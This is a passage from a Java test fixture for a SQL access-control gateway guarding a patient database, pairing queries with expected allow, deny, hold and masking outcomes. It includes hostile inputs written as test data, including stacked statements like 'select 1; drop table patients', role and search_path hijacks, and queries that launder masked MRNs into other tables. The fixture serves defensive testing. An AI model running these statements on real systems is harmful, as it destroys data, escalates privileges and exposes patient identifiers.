                        hold(Rules.HOLD_ANY_WRITE).saying("encounters").noRows()),
                c("write", WRITER, "delete from encounters", hold(Rules.HOLD_ANY_WRITE).noRows()),
                c("write", WRITER, "update patients set state = 'MA' where patient_id = 1",
                        deny(Rules.COLUMNS).saying("\"*\"").noRows()),
                c("laundering", WRITER, "insert into research.cohorts (patient_id, label) select patient_id, mrn "
                        + "from patients where patient_id = 1", deny(Rules.MASKED_WRITE).saying("patients.mrn").noRows()),
                c("laundering", WRITER, "update research.cohorts c set label = p.mrn from patients p "
                        + "where p.patient_id = c.patient_id", deny(Rules.MASKED_WRITE).noRows()),
                c("laundering", WRITER, "delete from research.cohorts where patient_id in "
                        + "(select patient_id from patients where mrn like 'MRN1%')", deny(Rules.MASKED_WRITE).noRows()),
                c("write", WRITER, "select patient_id from patients where patient_id = 1 for update", allow().clear("patient_id")),
                c("write", WRITER, "explain analyze insert into encounters (patient_id) values (1)",
                        hold(Rules.HOLD_ANY_WRITE).suppressed("QUERY PLAN")),
                c("write", WRITER, "explain insert into encounters (patient_id) values (1)", allow().suppressed("QUERY PLAN")),
                c("write", WRITER, "merge into research.cohorts c using encounters e on c.patient_id = e.patient_id "
                        + "when matched then delete", deny(Rules.STATEMENTS).saying("MERGE").noRows()),
                c("write", WRITER, "with d as (delete from research.cohorts where patient_id = 1 returning patient_id) "
                        + "insert into research.cohorts (patient_id) select patient_id from d", allow().noRows()),
                c("write", INSERTER, "insert into research.cohorts (patient_id, label) values (1, 'a') "
                        + "on conflict (patient_id) do update set label = excluded.label",
                        deny(Rules.STATEMENTS).saying("ON CONFLICT").noRows()),
                c("write", INSERTER, "insert into research.cohorts (patient_id, label) values (1, 'a') on conflict do nothing",
                        allow().noRows()),
                c("write", INSERTER, "with d as (delete from encounters returning patient_id) "
                        + "insert into research.cohorts (patient_id) select patient_id from d",
                        deny(Rules.STATEMENTS).saying("WITH").noRows()),
                c("write", INSERTER, "insert into research.cohorts (patient_id) values (1) returning patient_id, label",
                        allow().clear("patient_id", "label")),

                // --- session commands ------------------------------------------------------------------------------------
                c("set", S, "set search_path to evil, public", deny(Rules.SESSION_SET).saying("search_path").noRows()),
                c("set", S, "set search_path = public", deny(Rules.SESSION_SET).noRows()),
                c("set", S, "set schema 'evil'", deny(Rules.SESSION_SET).saying("search_path").noRows()),
                c("set", S, "set role admin", deny(Rules.SESSION_SET).saying("identity").noRows()),
                c("set", S, "set session authorization 'postgres'", deny(Rules.SESSION_SET).noRows()),
                c("set", S, "set standard_conforming_strings = off", deny(Rules.SESSION_SET).noRows()),
                c("set", S, "set datestyle = 'SQL, DMY'", deny(Rules.SESSION_SET).saying("ISO").noRows()),
                c("set", S, "set client_encoding = 'LATIN1'", deny(Rules.SESSION_SET).noRows()),
                c("set", S, "set names 'LATIN1'", deny(Rules.SESSION_SET).noRows()),
                c("set", S, "set myapp.tenant = '42'", deny(Rules.SESSION_SET).noRows()),
                c("set", S, "set application_name = 'etl'", allow().noRows()),
                c("set", S, "set local statement_timeout = 0", allow().noRows()),
                c("set", S, "set time zone 'UTC'", allow().noRows()),
                c("set", S, "set transaction isolation level serializable", allow().noRows()),
                c("set", S, "set session characteristics as transaction read only", allow().noRows()),
                c("set", S, "set extra_float_digits = 3", allow().noRows()),
                c("set", S, "reset all", allow().noRows()),
                c("set", S, "reset search_path", allow().noRows()),
                c("set", S, "reset role", deny(Rules.SESSION_SET).noRows()),
                c("set", S, "reset session authorization", deny(Rules.SESSION_SET).noRows()),
                c("show", S, "show search_path", allow().clear("search_path")),
                c("show", S, "show all", allow().clear("name", "setting", "description")),
                c("transaction", S, "begin", allow().noRows()),
                c("transaction", S, "start transaction isolation level repeatable read", allow().noRows()),
                c("transaction", S, "savepoint s1", allow().noRows()),
                c("transaction", S, "rollback to savepoint s1", allow().noRows()),
                c("transaction", S, "release savepoint s1", allow().noRows()),
                c("transaction", S, "commit", allow().noRows()),
                c("transaction", S, "abort", allow().noRows()),
                c("transaction", S, "commit prepared 'tx1'", deny(Rules.STATEMENTS).noRows()),
                c("session", S, "discard all", allow().noRows()),
                c("session", S, "discard plans", allow().noRows()),
                c("session", S, "listen revocations", deny(Rules.SESSION_LISTEN).noRows()),
                c("session", S, "notify revocations, 'lease-1'", allow().noRows()),
                c("session", WRITER, "notify revocations, 'lease-1'", allow().noRows()),
                c("session", S, "unlisten *", allow().noRows()),

                // --- EXPLAIN: judged by the explained statement, its output suppressed ----------------------------------
                c("explain", S, "explain select ssn from patients where patient_id = 1", allow().suppressed("QUERY PLAN")),
                c("explain", S, "explain select md5(ssn) from patients", deny(Rules.FUNCTIONS).suppressed("QUERY PLAN")),
                c("explain", S, "explain select * from pg_stats", deny(Rules.TABLES).suppressed("QUERY PLAN")),
                c("explain", S, "explain (analyze, format json) select ssn from patients",
                        hold(Rules.HOLD_NO_WHERE).suppressed("QUERY PLAN")),
                c("explain", S, "explain select ssn from patients", allow().suppressed("QUERY PLAN")),
                c("explain", S, "explain execute q(1)", deny(Rules.SESSION_PREPARED).suppressed("QUERY PLAN")),

                // --- several statements in one string: each must pass ----------------------------------------------------
                c("multi", S, "select 1; select ssn from patients where patient_id = 1", ssn(allow().plan(1), "ssn")),
                c("multi", S, "select 1; select ssn from patients where patient_id = 1", allow().plan(0).clear("?column?")),
                c("multi", S, "select 1; drop table patients", deny(Rules.STATEMENTS).saying("statement 2 of 2: ")
                        .plan(1).noRows()),
                c("multi", S, "select ssn from patients; select 1", hold(Rules.HOLD_NO_WHERE).saying("statement 1 of 2: ")
                        .plan(1).clear("?column?")),
                c("multi", S, "select 1; select query_to_xml('select 1', true, true, '')",
                        deny(Rules.FUNCTIONS).saying("statement 2 of 2").clear("?column?")),
                c("multi", S, "set search_path = evil; select ssn from patients where patient_id = 1",
                        deny(Rules.SESSION_SET).saying("statement 1 of 2").plan(1).masked("ssn", SSN_RULE, "patients.ssn")),
                c("multi", S, "begin; select mrn from patients where patient_id = 1; commit",
                        allow().plan(1).masked("mrn", MRN_RULE, "patients.mrn")),
                c("multi", S, "begin; select mrn from patients where patient_id = 1; commit", allow().plan(2).noRows()),
                c("multi", S, "select 1; select 2", allow().plan(2).unknownPlan()),
                c("multi", S, "select ssn from patients where patient_id = 1; delete from encounters; select 1",
                        deny(Rules.STATEMENTS).saying("statement 2 of 3").plan(0).masked("ssn", SSN_RULE, "patients.ssn")),
                c("empty", S, "", allow().unknownPlan()),
                c("empty", S, ";;", allow().unknownPlan()),

                // --- what cannot be analysed or resolved is denied ----------------------------------------------------------
                c("unanalysable", S, "selec ssn from patients", deny(Rules.ANALYSIS).saying("cannot analyse").unknownPlan()),
                c("unanalysable", S, "select ssn from patients where", deny(Rules.ANALYSIS).unknownPlan()),
                c("unanalysable", S, "select 'unterminated", deny(Rules.ANALYSIS).unknownPlan()),
                c("unanalysable", S, "select 1; selec 2", deny(Rules.ANALYSIS).plan(0).unknownPlan()),
                c("unresolved", S, "select ssn from nowhere", deny(Rules.TABLES).saying("nowhere").suppressed("ssn")),
                c("unresolved", S, "select * from research.cohorts", deny(Rules.TABLES).saying("research.cohorts")
                        .clear("patient_id", "label")),
                c("unresolved", S, "select * from other.tbl", deny(Rules.TABLES).suppressed("*")),
                c("unresolved", S, "select ssn from patients where patient_id = 1 connect by prior patient_id = ssn",
                        ssn(deny(Rules.ANALYSIS), "ssn")),
                c("unresolved", S, "select zz from patients where patient_id = 1", allow().suppressed("zz")),
                c("unresolved", S, "select \"SSN\" from patients where patient_id = 1", allow().suppressed("SSN")),
                c("unresolved", S, "select ctid from patients where patient_id = 1", allow().suppressed("ctid")),
                c("unresolved", S, "select xmlelement(name x, ssn) from patients where patient_id = 1",
                        deny(Rules.FUNCTIONS).suppressed("xmlelement")),

                // --- columns: every column used anywhere must be allowed ------------------------------------------------
                c("columns", NARROW, "select state from patients where zip = '02139'", allow().clear("state")),
                c("columns", NARROW, "select state from patients where ssn = '1'",
                        deny(Rules.COLUMNS).saying("patients.ssn").clear("state")),
                c("columns", NARROW, "select state from patients order by first_name", deny(Rules.COLUMNS).clear("state")),
                c("columns", NARROW, "select * from patients", deny(Rules.COLUMNS).clear(DecisionFixtures.PATIENT_COLUMNS)),
                c("columns", NARROW, "select p from patients p", deny(Rules.COLUMNS).clear("p")),
                c("columns", NARROW, "select state, count(*) from patients group by state", allow().clear("state", "count")),
                c("columns", NARROW, "select lower(state) from patients", deny(Rules.FUNCTIONS).clear("lower")),
                c("columns", NARROW, "select count(*) from encounters", deny(Rules.TABLES).clear("count")),

                // --- hold rules without a planner estimate ----------------------------------------------------------------
                c("hold", HOLDS, "select encounter_id from encounters", hold(Rules.HOLD_NO_WHERE).clear("encounter_id")),
                c("hold", HOLDS, "select encounter_id from encounters where patient_id = 1", allow().clear("encounter_id")),
                c("hold", HOLDS, "select patient_id from patients where patient_id = 1",
                        hold(Rules.HOLD_ESTIMATED_ROWS).saying("100").clear("patient_id")),
                c("hold", HOLDS, "select patient_id from patients limit 100", allow().clear("patient_id")),
                c("hold", HOLDS, "select patient_id from patients limit 101", hold(Rules.HOLD_ESTIMATED_ROWS).clear("patient_id")),
                c("hold", HOLDS, "select ssn from patients order by patient_id fetch first 10 rows only",
                        allow().masked("ssn", REDACT, "patients.ssn")),
                c("hold", HOLDS, "select relname from pg_class", allow().clear("relname")),
                c("hold", HOLDS, "explain select encounter_id from encounters", allow().suppressed("QUERY PLAN")),
                c("hold", HOLDS, "explain analyze select encounter_id from encounters",
                        hold(Rules.HOLD_NO_WHERE).suppressed("QUERY PLAN")),
                c("hold", HOLDS, "declare c cursor for select encounter_id from encounters", hold(Rules.HOLD_NO_WHERE).noRows()),
                c("hold", HOLDS, "prepare q as select encounter_id from encounters", hold(Rules.HOLD_NO_WHERE).noRows()),
                c("hold", HOLDS, "select 1", allow().clear("?column?")),
                c("hold", S, "select ssn from patients limit 1000", ssn(allow(), "ssn")),
                c("hold", S, "select ssn from patients limit 1001", ssn(hold(Rules.HOLD_NO_WHERE), "ssn")),
                c("hold", S, "select * from (select ssn from patients) t limit 10", ssn(allow(), "ssn")));
    }
}
